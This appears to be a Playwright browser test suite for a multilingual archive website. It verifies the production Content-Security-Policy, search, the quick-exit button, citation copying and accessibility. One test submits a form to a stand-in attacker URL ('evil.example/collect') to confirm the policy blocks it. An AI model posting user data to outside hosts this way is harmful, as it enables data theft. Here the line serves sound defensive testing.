import { existsSync } from 'node:fs'
import AxeBuilder from '@axe-core/playwright'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest'
import { CHROMIUM_PATH, launchChromium, recordCspViolations } from '../../scripts/lib/chromium.ts'
import { contentSecurityPolicy } from '../src/lib/contentSecurityPolicy.ts'
import { distDir } from './lib/dist.ts'
import { serveBuiltSite, type StaticServer } from '../../scripts/lib/staticSite.ts'

/**
 * The built site in Debian's Chromium, served with its production headers (netlify.toml's and
 * the build's `_headers`, the Content-Security-Policy included): the JavaScript that earns its
 * place (search, quick exit, citation copy) works, no page violates the policy, and no request
 * leaves the site's origin. The quick exit's neutral site and the CMS's form endpoint are
 * answered locally by the test, never fetched.
 */
const NEUTRAL = 'https://www.bbc.com/weather'

describe.skipIf(!existsSync(CHROMIUM_PATH))('in a browser', () => {
  let server: StaticServer
  let browser: Browser
  let context: BrowserContext
  let violations: string[]
  const problems: string[] = []
  const cmsOrigin = new URL(inject('cmsUrl')).origin
  const TAKEDOWN = `${cmsOrigin}/api/takedown-requests/submit`

  beforeAll(async () => {
    server = await serveBuiltSite(distDir())
    browser = await launchChromium()
    context = await browser.newContext({ viewport: { width: 1100, height: 900 } })
    violations = await recordCspViolations(context)
    await context.route('**/*', async (route) => {
      const url = route.request().url()
      if (url.startsWith(server.origin)) return route.continue()
      if (url.startsWith(NEUTRAL) && route.request().isNavigationRequest()) {
        return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Weather</title><p>Sunny</p>' })
      }
      if (url === TAKEDOWN && route.request().method() === 'POST') {
        return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Received</title><p>Received</p>' })
      }
      problems.push(`request to another origin: ${url}`)
      return route.abort()
    })
  })
  afterEach(() => {
    expect(violations).toEqual([])
  })
  afterAll(async () => {
    await browser?.close()
    await server?.close()
  })

  async function open(path: string): Promise<Page> {
    const page = await context.newPage()
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') problems.push(`${path}: console ${message.type()}: ${message.text()}`)
    })
    page.on('pageerror', (error) => problems.push(`${path}: ${error.message}`))
    const response = await page.goto(`${server.origin}${path}`, { waitUntil: 'networkidle' })
    expect(response?.headers()['content-security-policy'], path).toBe(contentSecurityPolicy(cmsOrigin))
    return page
  }

  /** Adds a form to the page, as the takedown request form will be, and submits it. */
  const submitForm = (page: Page, action: string) =>
    page.evaluate((target) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: target })
      form.append(Object.assign(document.createElement('input'), { name: 'reason', value: 'test' }))
      document.body.append(form)
      form.submit()
    }, action)

  /** Takes the violations a test provoked on purpose, so that only unexpected ones fail it. */
  const takeViolations = () => violations.splice(0)

  it('sees a violation when a page breaks the policy', async () => {
    const page = await context.newPage()
    await page.goto(`${server.origin}/en/`)
    await page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))
      document.body.append(Object.assign(document.createElement('img'), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }))
    })
    await expect
      .poll(() => violations)
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/\/en\/: style-src-elem blocked inline/),
          expect.stringMatching(/\/en\/: img-src blocked data/),
          expect.stringMatching(/\/en\/: console: .*Content Security Policy/),
        ]),
      )
    // Closed first, so that nothing the page still reports arrives after the list is cleared.
    await page.close()
    takeViolations()
  })

  it('lets forms post to the CMS’s origin, and nowhere else', async () => {
    const page = await open('/en/about/')
    await Promise.all([page.waitForURL(TAKEDOWN), submitForm(page, TAKEDOWN)])
    expect(await page.title()).toBe('Received')
    await page.close()

    const other = await context.newPage()
    await other.goto(`${server.origin}/en/about/`)
    await submitForm(other, 'https://evil.example/collect')
    await expect.poll(() => violations).toEqual(expect.arrayContaining([expect.stringMatching(/form-action blocked https:\/\/evil\.example/)]))
    expect(other.url()).toBe(`${server.origin}/en/about/`)
    await other.close()
    takeViolations()
    expect(problems).toEqual([])
  })

  it('loads pages under the production Content-Security-Policy without errors or foreign requests', async () => {
    for (const path of ['/', '/sq/', '/en/items/ark-sample-0001/', '/sr/partners/', '/en/archive/', '/sq/programs/un-joint-covid-19-project/']) {
      const page = await open(path)
      await page.close()
    }
    expect(problems).toEqual([])
  })

  it('serves images from its own origin in a modern format', async () => {
    const page = await open('/en/items/ark-sample-0001/')
    const src = await page.locator('figure img').evaluate((img: HTMLImageElement) => img.currentSrc)
    expect(src).toMatch(new RegExp(`^${server.origin}/_astro/.+\\.avif$`))
    await page.close()
  })

  it('searches in the page’s language, without diacritics, with filters and date order, and keeps the query out of the address', async () => {
    const page = await open('/sr/search/?q=djakovica')
    await page.waitForSelector('[data-search-results] li')
    expect(page.url()).toBe(`${server.origin}/sr/search/`)
    expect(await page.locator('[data-search-results] li a').first().getAttribute('href')).toBe('/sr/municipalities/gjakove/')
    await expect.poll(() => page.locator('[data-search-status]').textContent()).toMatch(/rezultat\w* za „djakovica“/)

    await page.fill('#search-query', '')
    await page.getByLabel('Događaj').check()
    await page.locator('input[name="sort"][value="oldest"]').check()
    await expect
      .poll(() => page.locator('[data-search-results] li h2').allTextContents())
      .toEqual([
        'Primer: Osnivanje Centra za jednakost i slobodu (CEL)',
        'Primer: Početak zajedničkog sprovođenja projekta UN-a za nevećinske zajednice i osobe koje su preživele nasilje u porodici',
      ])
    await page.close()
    expect(problems).toEqual([])
  })

  it('ends a search whose index files fail to load with a message, not “Searching…” for ever', async () => {
    const page = await context.newPage()
    const uncaught: string[] = []
    page.on('pageerror', (error) => uncaught.push(error.message))
    await page.route('**/pagefind/**/*.pf_fragment', (route) => route.fulfill({ status: 404, body: '' }))
    await page.goto(`${server.origin}/en/search/?q=gracanica`)
    await expect.poll(() => page.locator('[data-search-status]').textContent()).toBe('Search is not available right now.')
    expect(uncaught).toEqual([])
    await page.close()
  })

  it('copies a citation with the copy button', async () => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.origin })
    const page = await open('/en/items/ark-sample-0002/')
    const button = page.locator('button[data-copy-target="cite-apa"]')
    await expect.poll(() => button.isVisible()).toBe(true)
    await button.click()
    await expect.poll(() => page.locator('[data-copy-status]').textContent()).toBe('Citation copied.')
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    expect(copied).toMatch(/^Organizata Ndërkombëtare për Migracion \(IOM\), .* \(c\. 2020\)\. Sample: Start of the joint implementation/)
    await page.close()
  })

  it('leaves for the neutral site with the button, and the Back button does not bring the site back', async () => {
    const page = await open('/sq/')
    await page.locator('nav.nav a[href="/sq/archive/"]').click()
    await page.waitForURL(`${server.origin}/sq/archive/`)
    await page.getByRole('link', { name: /Dil nga kjo faqe/ }).click()
    await page.waitForURL(NEUTRAL)
    // The exited page was replaced in the history; Back reaches the page before it, which leaves again.
    await page.goBack()
    await page.waitForURL(NEUTRAL)
    expect(page.url()).toBe(NEUTRAL)
    await page.close()
  })

  it('leaves when Shift is pressed three times, and not before', async () => {
    const page = await open('/en/')
    await page.keyboard.press('Shift')
    await page.keyboard.press('Shift')
    expect(page.url()).toBe(`${server.origin}/en/`)
    await expect.poll(() => page.locator('[data-quick-exit] [role="status"]').textContent()).toBe('Shift, press 1 more time to exit.')
    await page.keyboard.press('Shift')
    await page.waitForURL(NEUTRAL)
    // A fresh visit afterwards (a typed address) shows the site again.
    await page.goto(`${server.origin}/en/about/`)
    expect(await page.locator('h1').textContent()).toContain('Center for Equality and Liberty')
    await page.close()
    expect(problems).toEqual([])
  })

  it('prints an item page without the screen’s controls, keeping its citation, its identifier and where its links lead', async () => {
    const page = await open('/en/items/ark-sample-0002/')
    await page.emulateMedia({ media: 'print' })
    for (const selector of ['.quick-exit', '.quick-exit a', 'nav.nav', 'nav.lang', 'button']) {
      expect(await page.locator(selector).count(), selector).toBeGreaterThan(0)
      for (const element of await page.locator(selector).all()) expect(await element.isVisible(), `${selector} in print`).toBe(false)
    }
    await expect.poll(() => page.locator('.citation').first().isVisible()).toBe(true)
    expect(await page.locator('.citation').first().textContent()).toContain('ARK-SAMPLE-0002')
    expect(await page.locator('table.metadata tr', { hasText: 'ARK-SAMPLE-0002' }).isVisible()).toBe(true)
    const rights = page.locator('table.metadata a[rel~="license"]')
    expect(await rights.evaluate((link) => getComputedStyle(link, '::after').content)).toContain('http://rightsstatements.org/')
    // The printed page is checked as the screen's are: WCAG A and AA, colour contrast included.
    const printed = await new AxeBuilder({ page } as never).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze()
    expect(printed.violations.map((violation) => `print ${violation.id}: ${violation.nodes.map((node) => node.target.join(' ')).join(', ')}`)).toEqual([])
    // On screen the controls are back.
    await page.emulateMedia({ media: 'screen' })
    expect(await page.locator('.quick-exit a').isVisible()).toBe(true)
    await page.close()
    expect(problems).toEqual([])
  })

  it('follows a dark colour scheme with no axe violation (colour contrast included) on every main page type', async () => {
    // One page of each main type (the others share their components and colours).
    const pages = [
      '/en/',
      '/sq/archive/',
      '/sr/items/ark-sample-0002/',
      '/en/programs/un-joint-covid-19-project/',
      '/sr/municipalities/fushe-kosove/',
      '/sq/about/',
      '/en/search/?q=covid',
    ]
    for (const path of pages) {
      const page = await open(path)
      await page.emulateMedia({ colorScheme: 'dark' })
      if (path.includes('/search/')) await page.waitForSelector('[data-search-results] li mark')
      expect(await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor), path).toBe('rgb(22, 21, 25)')
      // WCAG A and AA, colour contrast among them. (The best-practice rule "region" flags the quick exit, which
      // stays outside the landmarks on purpose, first on the page; the light-scheme tests in e2e/ see it too.)
      const results = await new AxeBuilder({ page } as never).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze()
      expect(results.passes.some((rule) => rule.id === 'color-contrast') || results.incomplete.some((rule) => rule.id === 'color-contrast'), path).toBe(true)
      expect(
        results.violations.map(
          (violation) =>
            `${path} ${violation.id}: ${violation.nodes
              .map((node) => node.target.join(' '))
              .slice(0, 3)
              .join(', ')}`,
        ),
      ).toEqual([])
      await page.close()
    }
    expect(problems).toEqual([])
  })
})
